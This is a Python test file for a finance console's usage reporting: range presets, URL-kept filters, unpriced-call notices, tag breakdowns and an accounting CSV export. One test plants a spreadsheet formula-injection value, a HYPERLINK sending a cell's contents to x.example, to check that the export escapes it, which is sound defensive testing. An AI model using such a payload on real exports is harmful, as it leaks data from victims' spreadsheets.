"""Finance reporting in the console: the range presets, sidebar choices in the URL (a reload
keeps them), the unpriced-calls notice wherever totals show, tags as a filter and a
breakdown, and the grouped accounting export."""

from __future__ import annotations

import io
from datetime import timedelta
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import pandas as pd
import pytest

from core import clock
from core.reports import accounting
from core.types import PICO
from core.usage import Filters, Reader, UsageEvent, UsageLog
from tests.console_support import app


@pytest.fixture
def home(console_home: Path) -> Path:
    return console_home


def tagged_events(home: Path) -> None:
    """Two tagged priced calls, one untagged, and three unpriced calls (last days)."""
    now = clock.now()
    log = UsageLog(home)
    rows = [
        ("t1", ["cc-sales"], "dryrun-small", 3 * 10**12, False),
        ("t2", ["cc-sales", "cc-ops"], "dryrun-small", 2 * 10**12, False),
        ("t3", [], "dryrun-small", 10**12, False),
        ("u1", ["cc-ops"], "mystery-model", None, True),
        ("u2", [], "mystery-model", None, True),
        ("u3", [], "other-mystery", None, True),
    ]
    for i, (rid, tags, model, cost, unpriced) in enumerate(rows):
        log.append(
            UsageEvent(
                request_id=f"req_tag_{rid}",
                ts=now - timedelta(hours=2 + i),
                org="acme",
                project="p",
                user="u",
                task="chat",
                tags=tags,
                provider="dryrun",
                model=model,
                requested_model=model,
                status="ok",
                input_tokens=10,
                output_tokens=10,
                cost_picousd=cost,
                unpriced=unpriced,
                source="test",
            )
        )
    log.close()


def param(at, key: str) -> list[str]:  # type: ignore[no-untyped-def]
    value = at.query_params.get(key, [])
    return [value] if isinstance(value, str) else list(value)


def test_url_parameters_set_the_sidebar_and_follow_its_changes(home: Path) -> None:
    at = app("viewer", filters=True)
    at.query_params["range"] = "90d"
    at.query_params["org"] = ["org1"]
    at.query_params["currency"] = "EUR"
    at.run()
    assert not at.exception
    assert at.selectbox(key="f_range").value == "90d"
    assert at.multiselect(key="f_org").value == ["org1"]
    assert at.selectbox(key="f_currency").value == "EUR"
    assert "Last 90 days" in at.caption[0].value
    at.selectbox(key="f_range").set_value("last_month").run()
    assert param(at, "range") == ["last_month"]
    assert param(at, "org") == ["org1"]
    at.multiselect(key="f_org").set_value([]).run()
    assert "org" not in at.query_params


def test_every_finance_preset_renders_the_overview(home: Path) -> None:
    at = app("viewer").run()
    for preset in ("24h", "last_month", "qtd", "last_quarter", "ytd", "all"):
        at.selectbox(key="f_range").set_value(preset).run()
        assert not at.exception, preset


def test_unpriced_calls_are_counted_wherever_totals_show(home: Path) -> None:
    tagged_events(home)
    at = app("engineer").run()

    def notice() -> list[str]:
        return [w.value for w in at.warning if "unpriced calls not in totals" in w.value]

    assert notice() and "**3 unpriced calls not in totals**" in notice()[0]
    for page in ("app_pages/requests.py", "app_pages/import_export.py"):
        at.switch_page(page).run()
        assert not at.exception and notice(), page


def test_tags_filter_and_break_down_spend(home: Path) -> None:
    tagged_events(home)
    at = app("viewer", filters=True).run()
    assert "cc-sales" in at.multiselect(key="f_tag").options
    at.multiselect(key="f_tag").set_value(["cc-sales"]).run()
    assert not at.exception
    figures = {m.label: m.value for m in at.metric}
    assert figures["Spend in range"] == "$5.00"  # t1 + t2
    assert figures["Requests"] == "2"
    at.selectbox(key="ov_dim").set_value("tag").run()
    assert not at.exception
    with Reader(home) as reader:
        by_tag = reader.spend_by(["tag"], None, Filters())
    cost = dict(zip(by_tag["tag"].fillna("(none)"), by_tag["cost_picousd"], strict=True))
    assert cost["cc-sales"] == 5 * 10**12 and cost["cc-ops"] == 2 * 10**12


def test_accounting_export_groups_by_month_and_lists_unpriced_apart(home: Path) -> None:
    tagged_events(home)
    with Reader(home) as reader:
        acc = accounting(reader, Filters(), "tag", "UTC", "EUR", "0.92")
        total = reader.totals(Filters())
    assert acc.unpriced_calls == 3
    assert set(acc.unpriced["model"]) == {"mystery-model", "other-mystery"}
    tags = acc.priced.groupby("tag")["cost_usd"].apply(lambda s: sum(Decimal(v) for v in s))
    assert tags["cc-sales"] == 5 and tags["cc-ops"] == 2
    with Reader(home) as reader:
        by_org = accounting(reader, Filters(), "org", "UTC", "EUR", "0.92")
    exact = sum(Decimal(v) for v in by_org.priced["cost_usd"])
    assert exact == Decimal(total["cost_picousd"]) / PICO  # every priced call, once
    assert int(by_org.priced["calls"].sum()) + by_org.unpriced_calls == total["requests"]
    row = by_org.priced.iloc[0]
    eur = (Decimal(row["cost_usd"]) * Decimal("0.92")).quantize(Decimal("0.01"), ROUND_HALF_UP)
    assert row["amount"] == f"{eur:.2f}"
    assert set(by_org.priced["currency"]) == {"EUR"} and set(by_org.priced["rate"]) == {"0.92"}

    at = app("viewer").run()
    at.selectbox(key="f_currency").set_value("EUR").run()
    at.switch_page("app_pages/import_export.py").run()
    assert not at.exception
    at.segmented_control(key="exp_acc_by").set_value("model").run()
    shown = next(d.value for d in at.dataframe if "Amount (EUR)" in d.value.columns)
    assert "Model" in shown.columns and "Month" in shown.columns
    unpriced = next(
        d.value
        for d in at.dataframe
        if "model" in d.value.columns
        and "calls" in d.value.columns
        and "Month" not in d.value.columns
    )
    assert int(unpriced["calls"].sum()) == 3
    csv = pd.read_csv(io.BytesIO(acc.priced.to_csv(index=False).encode()))
    assert list(csv.columns) == ["month", "tag", "calls", "cost_usd", "currency", "rate", "amount"]


def test_folded_filters_keep_their_values(home: Path) -> None:
    """The filters expander draws its multiselects only while open; folded, the chosen
    values still filter every figure (and stay in the URL) and its label counts them."""
    at = app("viewer", filters=True).run()
    at.multiselect(key="f_org").set_value(["org1"]).run()
    at.session_state["f_filters_open"] = False
    at.run()
    assert not at.exception and not at.multiselect
    assert at.session_state["selection"].scope.org == ("org1",)
    assert [e.label for e in at.sidebar.expander] == ["Filters (1 on)"]
    at.selectbox(key="f_range").set_value("90d").run()  # another run, still folded
    assert at.session_state["selection"].scope.org == ("org1",) and param(at, "org") == ["org1"]
    assert not at.multiselect
    at.session_state["f_filters_open"] = True
    at.run()
    assert at.multiselect(key="f_org").value == ["org1"]


def test_the_accounting_csv_escapes_formula_names(home: Path) -> None:
    """An org named '=HYPERLINK(...)' reaches finance's spreadsheet as text, as in the usage
    export (the summary's CSV downloads wrote it bare: a formula Excel runs on open)."""
    from streamlit.runtime.memory_media_file_storage import _calculate_file_id

    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    with UsageLog(home) as log:
        for rid, unpriced in (("e1", False), ("e2", True)):
            log.append(
                UsageEvent(
                    request_id=rid,
                    ts=clock.now() - timedelta(hours=1),
                    org=evil,
                    provider="dryrun",
                    model="mystery" if unpriced else "dryrun-small",
                    cost_picousd=None if unpriced else 10**12,
                    unpriced=unpriced,
                )
            )
    with Reader(home) as reader:
        acc = accounting(reader, Filters(org=evil), "org", "UTC")
    for data in (acc.csv(), acc.csv(unpriced=True)):
        assert list(pd.read_csv(io.BytesIO(data))["org"]) == ["'" + evil]
    assert list(pd.read_csv(io.BytesIO(acc.csv()), dtype=str)["cost_usd"]) == ["1.000000000000"]
    at = app("viewer").run()
    at.switch_page("app_pages/import_export.py").run()
    urls = {b.proto.id.rsplit("-", 1)[-1]: b.proto.url for b in at.get("download_button")}
    selection = at.session_state["selection"]
    with Reader(home) as reader:  # what the page shows: its range, zone and currency
        shown = accounting(
            reader,
            selection.scope.filters(),
            "org",
            selection.scope.tz,
            selection.money.currency,
            selection.money.rate,
        )
    assert evil in set(shown.priced["org"])
    name = f"costline-accounting-org-{selection.money.currency.lower()}.csv"
    want = _calculate_file_id(shown.csv(), "text/csv", name)
    assert urls["exp_acc_csv"].endswith(f"/{want}.csv")
